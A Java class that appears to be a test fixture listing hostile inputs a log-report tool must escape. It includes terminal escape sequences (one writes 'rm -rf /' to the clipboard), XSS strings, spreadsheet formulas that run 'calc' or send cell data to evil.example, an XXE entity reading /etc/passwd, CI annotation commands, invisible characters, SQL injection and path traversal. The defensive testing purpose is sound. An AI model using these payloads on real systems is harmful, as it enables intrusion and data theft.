package org.logreeve.report;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts that a host, or whoever writes to its files and its log, would like us to carry into a
 * report: each is active in some sink that takes it as it is.
 */
public final class Payloads {
    /** Move the cursor, repaint, rename the window, write the clipboard, answer into the shell. */
    public static final List<String> TERMINAL =
            List.of(
                    "\u001b[2J\u001b[H",
                    "\u001b[31mred\u001b[0m",
                    "\u001b[8mhidden\u001b[28m",
                    "\u001b[1A\u001b[2Kpass 14",
                    "\u001b[?1049h",
                    "\u001b[6n",
                    "\u001b[c",
                    "\u001b]0;title\u0007",
                    "\u001b]2;title\u001b\\",
                    "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\",
                    "\u001b]52;c;cm0gLXJmIC8=\u0007",
                    "\u001b]1337;File=inline=1:AAAA\u0007",
                    "\u001b]10;?\u0007",
                    "\u001bP$qm\u001b\\",
                    "\u001bPq#0;2;0;0;0\u001b\\",
                    "\u001b_Gf=24;AAAA\u001b\\",
                    "\u001b^private\u001b\\",
                    "\u001bc",
                    "\u001b(0lqk",
                    "\u001b#8",
                    "\u001b%G",
                    "\u009b2J",
                    "\u009d0;c1 title\u009c",
                    "\u0090q\u009c",
                    "\u0085next line",
                    "\u008dreverse index",
                    "\u000eshift out\u000f",
                    "a\bb",
                    "over\rwritten",
                    "two\nlines",
                    "two\r\nlines",
                    "tab\there",
                    "\u000bvertical\fform feed",
                    "bell\u0007",
                    "delete\u007f",
                    "nul\0byte",
                    "\u001a\u0004end",
                    "\u0005who");

    /** Run a script, load something, or leave the place they were put into. */
    public static final List<String> HTML =
            List.of(
                    "<script>alert(1)</script>",
                    "</script><script>alert(1)</script>",
                    "<img src=x onerror=alert(1)>",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert&lpar;1)</script>",
                    "<iframe srcdoc='<script>alert(1)</script>'>",
                    "<style>@import url(https://evil.example/x.css)</style>",
                    "</style><script>alert(1)</script>",
                    "<link rel=stylesheet href=https://evil.example/x.css>",
                    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
                    "<base href=https://evil.example/>",
                    "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)>",
                    "<details open ontoggle=alert(1)>",
                    "<a href=javascript:alert(1)>x</a>",
                    "<body onload=alert(1)>",
                    "\"><script>alert(1)</script>",
                    "' onmouseover='alert(1)",
                    "\" autofocus onfocus=\"alert(1)",
                    "`onmouseover=alert(1)",
                    "--><script>alert(1)</script><!--",
                    "<!--#exec cmd=\"id\"-->",
                    "</title><script>alert(1)</script>",
                    "</textarea><script>alert(1)</script>",
                    "</pre></td></table><h1>all hosts pass</h1>",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&#60;script&#62;",
                    "&amp;amp;",
                    "javascript:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "{{constructor.constructor('alert(1)')()}}",
                    "${7*7}",
                    "#{7*7}",
                    "<%= 7*7 %>",
                    "<template><script>alert(1)</script></template>",
                    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>");

    /** Compute, start a program or ask a server when a spreadsheet opens them. */
    public static final List<String> CSV =
            List.of(
                    "=1+1",
                    "=cmd|'/C calc'!A0",
                    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
                    "=WEBSERVICE(\"https://evil.example/\")",
                    "@SUM(1+1)*cmd|'/C calc'!A0",
                    "+1+cmd|'/C calc'!A0",
                    "-2+3+cmd|'/C calc'!A0",
                    "-/var/log/mail.log",
                    "*.* -/var/log/all.log",
                    "\t=1+2",
                    "\r=1+3",
                    "\n=1+4",
                    " =1+5",
                    "\"=1+6",
                    "\",=1+7",
                    "a;=1+8",
                    "a;-1+9",
                    "a; =1+10",
                    "a;\"=1+11",
                    "\uff1d1+1",
                    "\uff0b1",
                    "\uff0d1",
                    "\uff20SUM(1)",
                    "\"quoted\"",
                    "a\",\"b",
                    "a,b",
                    "'=1",
                    "''",
                    "\ufeff=1+1");

    /** Are no XML at all, end their section, or bring a file in. */
    public static final List<String> XML =
            List.of(
                    "]]>",
                    "<![CDATA[x]]>",
                    "]]><testcase name=\"pass\"/>",
                    "\"/><testcase classname=\"x\" name=\"y\"/>",
                    "</failure></testcase></testsuite></testsuites>",
                    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
                    "&e;",
                    "&#0;",
                    "&#x1b;",
                    "&#xffff;",
                    "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
                    "<!-- -- -->",
                    "\ufffe",
                    "\uffff",
                    "lone \ud800 high",
                    "lone \udc00 low",
                    "\udc00\ud800",
                    "\ud83d\ude00",
                    "\udbff\udfff",
                    "\u0001\u0002\u0003\u0006\u001f",
                    "a<b&c>d\"e'f");

    /** Are links, images, mentions, references, tables, headings or commands in Markdown. */
    public static final List<String> MARKDOWN =
            List.of(
                    "[click](https://evil.example/)",
                    "![image](https://evil.example/pixel.png)",
                    "[click]: https://evil.example/",
                    "<https://evil.example/>",
                    "https://evil.example/",
                    "www.evil.example",
                    "root@evil.example",
                    "@octocat",
                    "@group/everyone",
                    "#1",
                    "!1",
                    "GH-1",
                    "owner/repository#1",
                    "/assign @octocat",
                    "closes #1",
                    ":tada:",
                    "`code`",
                    "``",
                    "```",
                    "` ` `",
                    "`",
                    "a`",
                    "`a",
                    "\\`",
                    "a\\",
                    "|",
                    "a|b|c",
                    "\\|",
                    "\\\\|",
                    "| --- |",
                    "# heading",
                    "- item",
                    "1. item",
                    "> quote",
                    "---",
                    "===",
                    "    indented",
                    " leading and trailing ",
                    "  ",
                    "**bold** _em_ ~~gone~~",
                    "***",
                    "$`a^2`$",
                    "$$x$$",
                    "{+ added +}",
                    "[^1]",
                    "- [x] done",
                    "<details><summary>x</summary>",
                    "<!-- hidden -->",
                    "&nbsp;&copy;",
                    "\\<b\\>",
                    "`".repeat(9),
                    "`".repeat(100),
                    "~~~\nfence");

    /** Are commands to a build server that reads what its jobs print. */
    public static final List<String> ANNOTATIONS =
            List.of(
                    "::error::x",
                    "::error file=a,line=1::x",
                    "::set-output name=a::b",
                    "::add-mask::a",
                    "::stop-commands::token",
                    "::save-state name=a::b",
                    "  ::warning::indented",
                    "\t::notice::tab",
                    "%0A::error::x",
                    "a%0D%0A%25%3A%2Cb",
                    "##[error]x",
                    "##[group]x",
                    "##[set-env name=PATH]x",
                    "a ##[command]x",
                    "##vso[task.setvariable variable=a]b",
                    "##vso[task.uploadfile]/etc/passwd",
                    "a ##vso[task.complete result=Succeeded;]",
                    "###vso[x]y",
                    "##teamcity[buildStatus status='SUCCESS']",
                    "section_start:1:x\r\u001b[0Ktitle",
                    "section_end:1:x\r\u001b[0K");

    /** Are not seen, or make what follows look different from what it is. */
    public static final List<String> UNSEEN =
            List.of(
                    "\u202egnp.exe",
                    "\u202dleft\u202c",
                    "\u202aembedded\u202c",
                    "\u202bembedded\u202c",
                    "\u2066isolated\u2069",
                    "\u2067isolated\u2069",
                    "\u2068isolated\u2069",
                    "\u200emark",
                    "\u200fmark",
                    "\u061cmark",
                    "zero\u200bwidth",
                    "zero\u200cwidth",
                    "zero\u200dwidth",
                    "word\u2060joiner",
                    "soft\u00adhyphen",
                    "line\u2028separator",
                    "paragraph\u2029separator",
                    "\ufeffmark",
                    "\ufff9a\ufffab\ufffb",
                    "tag\udb40\udc41",
                    "private\ue000use",
                    "unassigned\u0378",
                    "mongolian\u180evowel",
                    "invisible\u2062times");

    /** Are names that a program may take for something else. */
    public static final List<String> NAMES =
            List.of(
                    "__proto__",
                    "constructor",
                    "null",
                    "true",
                    "1e5",
                    "../../etc/passwd",
                    "/etc/passwd",
                    "C:\\con",
                    "--help",
                    "-rf",
                    "$(id)",
                    ";id",
                    "%s%n%d",
                    "{0}",
                    "'; DROP TABLE hosts; --",
                    "x".repeat(5000));

    /** All of them, each once. */
    public static final List<String> ALL =
            Stream.of(TERMINAL, HTML, CSV, XML, MARKDOWN, ANNOTATIONS, UNSEEN, NAMES)
                    .flatMap(List::stream)
                    .toList();

    private Payloads() {}

    /** Those that the grammar of inventories lets be a host's name, beside the rest. */
    public static List<String> hostNames() {
        var names = new ArrayList<String>();
        for (String payload : ALL) {
            if (payload.matches("[A-Za-z0-9_]([A-Za-z0-9._-]{0,251}[A-Za-z0-9_])?")) {
                names.add(payload);
            }
        }
        return names;
    }
}
